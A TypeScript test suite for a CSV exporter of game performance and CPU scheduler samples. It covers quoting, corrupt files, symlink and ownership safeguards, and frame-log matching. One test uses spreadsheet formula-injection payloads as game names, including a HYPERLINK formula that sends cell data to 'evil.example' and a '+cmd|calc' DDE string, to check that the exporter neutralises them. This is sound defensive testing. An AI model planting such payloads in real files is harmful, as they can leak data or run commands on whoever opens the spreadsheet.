import assert from "node:assert/strict";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { COLUMN_NAMES, COLUMNS, ORIGINAL_COLUMNS } from "../lib/store/columns.ts";
import { exportCsv, ExportError, formatExportCounts } from "../lib/store/csv_export.ts";
import { GameStore } from "../lib/store/game_store.ts";
import { formatMangoHudLog, parseMangoHudLog } from "../lib/store/frametimes.ts";
import { parseTrainingCsv } from "../lib/store/csv_read.ts";
import { UnsafePathError } from "../lib/host/safe_fs.ts";
import type { Sample } from "../lib/types.ts";
import { makeSample } from "./fixtures/sample.ts";
import { otherUser } from "./fixtures/other_user.ts";
import { tempDir } from "./fixtures/temp.ts";

const AMD = "AMD Ryzen 7 7800X3D 8-Core Processor";
const INTEL = "Intel(R) Core(TM) i7-12700K";
/** A game name that needs every kind of CSV quoting: comma, quote, line break. */
const NASTY = 'Half-Life 2, "Episode\nTwo"';

function store(ml: string, cpu: string, game: string, samples: Sample[]): void {
  const s = GameStore.open(ml, { cpuModel: cpu, gameName: game, owner: null, log: () => {} });
  for (const x of samples) s.add(x);
  s.close();
}

/** Three games on two CPU models; returns every sample in the order the export writes them. */
function fill(ml: string): Sample[] {
  const cyber = [0, 1, 2, 3].map((i) => makeSample(i, { cpu: AMD, game: "Cyberpunk2077" }));
  const nasty = [4, 5].map((i) => makeSample(i, { cpu: AMD, game: NASTY }));
  const intel = [6, 7, 8].map((i) => makeSample(i, { cpu: INTEL, game: "Cyberpunk2077" }));
  store(ml, AMD, "Cyberpunk2077", cyber);
  store(ml, AMD, NASTY, nasty);
  store(ml, INTEL, "Cyberpunk2077", intel);
  return [...cyber, ...nasty, ...intel];
}

Deno.test("exportCsv round-trips every value of every column of every sample", () => {
  const ml = tempDir();
  const samples = fill(ml);
  const out = join(tempDir(), "training.csv");
  const result = exportCsv(ml, out, { owner: null, log: () => {} });
  const records = parse(Deno.readTextFileSync(out)) as string[][];
  assert.deepEqual(records[0], [...COLUMN_NAMES]);
  const rows = records.slice(1);
  assert.equal(rows.length, samples.length);
  assert.equal(result.rows, samples.length);
  // The export order is by CPU folder, then file; compare as a set keyed by timestamp.
  const byTimestamp = new Map(samples.map((s) => [s.timestamp, s]));
  let compared = 0;
  for (const row of rows) {
    const sample = byTimestamp.get(Number(row[0]));
    assert.ok(sample, `row for timestamp ${row[0]}`);
    COLUMNS.forEach((col, i) => {
      const want = col.get(sample);
      if (col.type === "switch") assert.equal(row[i], want ? "1" : "0", col.name);
      else if (col.type === "number") assert.equal(want === "" ? row[i] : Number(row[i]), want, col.name);
      else assert.equal(row[i], want, col.name);
      compared++;
    });
  }
  assert.equal(compared, samples.length * COLUMNS.length);
});

Deno.test("exportCsv starts with the original tool's 26 columns in order", () => {
  const ml = tempDir();
  fill(ml);
  const out = join(tempDir(), "t.csv");
  exportCsv(ml, out, { owner: null, log: () => {} });
  const header = Deno.readTextFileSync(out).split("\n")[0].split(",");
  assert.deepEqual(header.slice(0, 26), [...ORIGINAL_COLUMNS]);
});

Deno.test("exportCsv writes switches as 0 and 1, never empty", () => {
  const ml = tempDir();
  store(ml, AMD, "g", [makeSample(0, { game: "g", config: { avoid_smt: false, enable_numa: true } })]);
  const out = join(tempDir(), "t.csv");
  exportCsv(ml, out, { owner: null, log: () => {} });
  const [header, row] = parse(Deno.readTextFileSync(out)) as string[][];
  assert.equal(row[header.indexOf("avoid_smt")], "0");
  assert.equal(row[header.indexOf("enable_numa")], "1");
});

Deno.test("exportCsv quotes a field with a comma, quote or line break as RFC 4180 says", () => {
  const ml = tempDir();
  store(ml, AMD, NASTY, [makeSample(0, { game: NASTY })]);
  const out = join(tempDir(), "t.csv");
  exportCsv(ml, out, { owner: null, log: () => {} });
  assert.ok(Deno.readTextFileSync(out).includes('"Half-Life 2, ""Episode\nTwo"""'));
});

Deno.test("exportCsv returns the row count of each game per CPU model", () => {
  const ml = tempDir();
  fill(ml);
  const out = join(tempDir(), "t.csv");
  const result = exportCsv(ml, out, { owner: null, log: () => {} });
  assert.deepEqual(
    result.games.map((g) => [g.cpu_model, g.game_name, g.rows]),
    [[AMD, "Cyberpunk2077", 4], [AMD, NASTY, 2], [INTEL, "Cyberpunk2077", 3]],
  );
  assert.equal(
    formatExportCounts(result),
    [
      `Cyberpunk2077 (${AMD}): 4 rows`,
      `Half-Life 2, "Episode\\x0aTwo" (${AMD}): 2 rows`,
      `Cyberpunk2077 (${INTEL}): 3 rows`,
      `9 rows written to ${out}`,
    ].join("\n"),
  );
});

Deno.test("exportCsv skips a corrupt file with one warning line and exports the rest", () => {
  const ml = tempDir();
  fill(ml);
  Deno.writeTextFileSync(join(ml, "AMD Ryzen 7 7800X3D 8-Core Processor", "Broken.json"), "{nope");
  const warnings: string[] = [];
  const out = join(tempDir(), "t.csv");
  const result = exportCsv(ml, out, { owner: null, log: (l) => warnings.push(l) });
  assert.equal(result.rows, 9);
  assert.equal(warnings.length, 1);
  assert.match(warnings[0], /^skipping .*Broken\.json: not valid JSON/);
});

Deno.test("exportCsv ignores files kept aside and temp files", () => {
  const ml = tempDir();
  fill(ml);
  const dir = join(ml, AMD);
  Deno.copyFileSync(
    join(dir, "Cyberpunk2077.json"),
    join(dir, "Cyberpunk2077.corrupt-20250101T000000Z.json"),
  );
  Deno.copyFileSync(join(dir, "Cyberpunk2077.json"), join(dir, ".Cyberpunk2077.json.tmp-1-1-ab"));
  const result = exportCsv(ml, join(tempDir(), "t.csv"), { owner: null, log: () => {} });
  assert.equal(result.rows, 9);
});

Deno.test("exportCsv refuses an empty data folder instead of writing an empty file", () => {
  const ml = tempDir();
  store(ml, AMD, "NoSamples", []);
  const out = join(tempDir(), "t.csv");
  assert.throws(
    () => exportCsv(ml, out, { owner: null, log: () => {} }),
    (e: Error) =>
      e instanceof ExportError &&
      e.message === `no samples under ${ml}: collect some with --ml-collect first`,
  );
  assert.throws(() => exportCsv(join(ml, "missing"), out, { owner: null }), ExportError);
  assert.throws(() => Deno.lstatSync(out));
});

Deno.test("exportCsv replaces a previous export", () => {
  const ml = tempDir();
  fill(ml);
  const out = join(tempDir(), "t.csv");
  exportCsv(ml, out, { owner: null, log: () => {} });
  store(ml, AMD, "Extra", [makeSample(50, { game: "Extra" })]);
  assert.equal(exportCsv(ml, out, { owner: null, log: () => {} }).rows, 10);
  assert.equal((parse(Deno.readTextFileSync(out)) as string[][]).length, 11);
});

Deno.test("exportCsv refuses to overwrite a file that is not an export", () => {
  const ml = tempDir();
  fill(ml);
  const out = join(tempDir(), "main.ts");
  Deno.writeTextFileSync(out, "console.log('precious');\n");
  assert.throws(
    () => exportCsv(ml, out, { owner: null, log: () => {} }),
    (e: Error) => e instanceof ExportError && e.message.startsWith(`refusing to overwrite ${out}`),
  );
  assert.equal(Deno.readTextFileSync(out), "console.log('precious');\n");
});

Deno.test("exportCsv never writes through a symlink", () => {
  const ml = tempDir();
  fill(ml);
  const dir = tempDir();
  const victim = join(tempDir(), "victim.csv");
  Deno.writeTextFileSync(victim, "timestamp,game_name,x\n");
  Deno.symlinkSync(victim, join(dir, "t.csv"));
  assert.throws(() => exportCsv(ml, join(dir, "t.csv"), { owner: null, log: () => {} }), UnsafePathError);
  assert.equal(Deno.readTextFileSync(victim), "timestamp,game_name,x\n");
});

Deno.test("exportCsv refuses to write into a folder another user can change, naming who owns it", () => {
  const mallory = otherUser();
  const ml = tempDir();
  fill(ml);
  const hers = join(tempDir(), "hers");
  Deno.mkdirSync(hers);
  Deno.chownSync(hers, mallory.uid, mallory.gid);
  assert.throws(
    () => exportCsv(ml, join(hers, "t.csv"), { owner: null, log: () => {} }),
    (e: Error) =>
      e instanceof UnsafePathError && e.message.includes(`hers: it belongs to uid ${mallory.uid}`),
  );
  assert.deepEqual([...Deno.readDirSync(hers)], [], "root made nothing in her folder");
});

Deno.test("exportCsv skips a symlinked CPU folder with a warning", () => {
  const ml = tempDir();
  fill(ml);
  const other = tempDir();
  store(other, "Planted", "Fake", [makeSample(0, { cpu: "Planted", game: "Fake" })]);
  Deno.symlinkSync(join(other, "Planted"), join(ml, "Planted"));
  const warnings: string[] = [];
  const result = exportCsv(ml, join(tempDir(), "t.csv"), { owner: null, log: (l) => warnings.push(l) });
  assert.equal(result.rows, 9);
  assert.match(warnings[0], /Planted: it is a symlink/);
});

Deno.test("exportCsv output is accepted by the trainer's CSV reader", () => {
  const ml = tempDir();
  const samples = [...Array(25).keys()].map((i) => makeSample(i, { game: NASTY }));
  store(ml, AMD, NASTY, samples);
  const out = join(tempDir(), "t.csv");
  exportCsv(ml, out, { owner: null, log: () => {} });
  const table = parseTrainingCsv(Deno.readTextFileSync(out), { file: out });
  assert.equal(table.rows.length, 25);
  assert.equal(table.scoreComputed, false);
  assert.deepEqual(table.header, [...COLUMN_NAMES]);
});

Deno.test("exportCsv neutralises formula prefixes in text cells and leaves numbers alone", () => {
  const ml = tempDir();
  const names = [
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "+cmd|calc",
    "-2+3",
    "@SUM(1+1)",
    "\tTab",
    "\rCR",
  ];
  const cpu = "=CPU()";
  names.forEach((name, k) => store(ml, cpu, name, [makeSample(k, { cpu, game: name })]));
  const out = join(tempDir(), "training.csv");
  exportCsv(ml, out, { owner: null, log: () => {} });
  const records = parse(Deno.readTextFileSync(out)) as string[][];
  const gameCol = COLUMN_NAMES.indexOf("game_name"), cpuCol = COLUMN_NAMES.indexOf("cpu_model");
  const exported = records.slice(1).map((r) => r[gameCol]).sort();
  assert.deepEqual(exported, names.map((n) => "'" + n).sort());
  for (const row of records.slice(1)) {
    assert.equal(row[cpuCol], "'=CPU()");
    // No cell a spreadsheet would evaluate, and every numeric cell of the original 26 still a number.
    for (const cell of row) assert.doesNotMatch(cell, /^[=+@\t\r]/);
    ORIGINAL_COLUMNS.forEach((name) => {
      const i = COLUMN_NAMES.indexOf(name);
      if (name !== "game_name") assert.ok(Number.isFinite(Number(row[i])), `${name}: ${row[i]}`);
    });
  }
  // The export stays a valid training CSV in the original layout (26 columns first).
  assert.deepEqual(records[0].slice(0, 26), [...ORIGINAL_COLUMNS]);
});

Deno.test("exportCsv keeps a negative number as it is (numeric cells are never prefixed)", () => {
  const ml = tempDir();
  const s = makeSample(1, { game: "G" });
  s.metrics.cpu_util_pct = -1.5;
  store(ml, s.cpu_model, "G", [s]);
  const out = join(tempDir(), "training.csv");
  exportCsv(ml, out, { owner: null, log: () => {} });
  const records = parse(Deno.readTextFileSync(out)) as string[][];
  assert.equal(records[1][COLUMN_NAMES.indexOf("cpu_util_pct")], "-1.5");
});

Deno.test("with MangoHud's logs each sample gets the fps, 1% low and frame-time p99 of its interval", () => {
  const ml = tempDir();
  // Samples every 5 s from t0; each covers the 5 s before its timestamp.
  const t0 = 1_764_078_840;
  const samples = [0, 1, 2].map((i) =>
    makeSample(i, { cpu: AMD, game: "Doom", timestamp: t0 + 5 * (i + 1) })
  );
  store(ml, AMD, "Doom", samples);
  // A log of 10 s of frames at 10 ms, then 5 s at 20 ms, written (ended) at t0 + 15.
  const frames = [...Array(1000).fill(10), ...Array(250).fill(20)];
  const logs = [parseMangoHudLog(formatMangoHudLog(frames, { cpu: AMD }), t0 + 15, "doom.csv")];
  const out = join(tempDir(), "training.csv");
  const result = exportCsv(ml, out, { owner: null, log: () => {}, frameLogs: logs });
  assert.equal(result.framesMatched, 3);
  const rows = parse(Deno.readTextFileSync(out), { columns: true }) as Record<string, string>[];
  assert.ok(Math.abs(Number(rows[0].frametime_p99) - 10) < 0.01, rows[0].frametime_p99);
  assert.ok(Math.abs(Number(rows[2].frametime_p99) - 20) < 0.01, rows[2].frametime_p99);
  assert.ok(Math.abs(Number(rows[2].fps) - 50) < 0.5, rows[2].fps);
  // Without logs the three columns are empty, and the original 26 stay first.
  exportCsv(ml, out, { owner: null, log: () => {} });
  const plain = parse(Deno.readTextFileSync(out), { columns: true }) as Record<string, string>[];
  assert.equal(plain[0].frametime_p99, "");
  assert.deepEqual(Object.keys(plain[0]).slice(0, ORIGINAL_COLUMNS.length), [...ORIGINAL_COLUMNS]);
});

Deno.test("the smoothness columns carry the kernel's figures in µs and ms, and are empty when not measured", () => {
  const ml = tempDir();
  const measured = makeSample(3, { game: "g" });
  const notMeasured = makeSample(4, { game: "g", smooth: false });
  store(ml, AMD, "g", [measured, notMeasured]);
  const out = join(tempDir(), "t.csv");
  exportCsv(ml, out, { owner: null, log: () => {} });
  const [header, a, b] = parse(Deno.readTextFileSync(out)) as string[][];
  assert.deepEqual(header.slice(-12), [
    "policy_version",
    "wake_p50_us",
    "wake_p99_us",
    "wake_input_p99_us",
    "wake_gpu_p99_us",
    "wait_ms_per_s",
    "wait_behind_share",
    "pace_median_ms",
    "pace_p99_ms",
    "pace_spread",
    "pace_late_share",
    "smooth_score",
  ]);
  const cell = (row: string[], name: string) => row[header.indexOf(name)];
  const smooth = measured.metrics.smooth!;
  assert.equal(Number(cell(a, "policy_version")), measured.policy_version);
  assert.equal(Number(cell(a, "wake_p50_us")), smooth.all.p50_ns / 1000);
  assert.equal(Number(cell(a, "wake_p99_us")), smooth.all.p99_ns / 1000);
  assert.equal(Number(cell(a, "wake_input_p99_us")), smooth.latency.input!.p99_ns / 1000);
  assert.equal(Number(cell(a, "wake_gpu_p99_us")), smooth.latency.gpu_submit!.p99_ns / 1000);
  assert.equal(Number(cell(a, "wait_ms_per_s")), smooth.wait_ms_per_s);
  assert.equal(Number(cell(a, "wait_behind_share")), smooth.wait_share_behind_other);
  assert.equal(Number(cell(a, "pace_median_ms")), smooth.pacing!.median_ns / 1e6);
  assert.equal(Number(cell(a, "pace_p99_ms")), smooth.pacing!.p99_ns / 1e6);
  assert.equal(Number(cell(a, "pace_spread")), smooth.pacing!.spread);
  assert.equal(Number(cell(a, "pace_late_share")), smooth.pacing!.late_share);
  assert.equal(Number(cell(a, "smooth_score")), measured.smooth_score);
  assert.deepEqual(header.slice(-11).map((name) => cell(b, name)), Array(11).fill(""));
  // The trainer's reader takes both rows: the empty cells are "not measured".
  const t = parseTrainingCsv(Deno.readTextFileSync(out), { file: out });
  assert.ok(Number.isNaN(t.numbers.get("smooth_score")![1]));
});
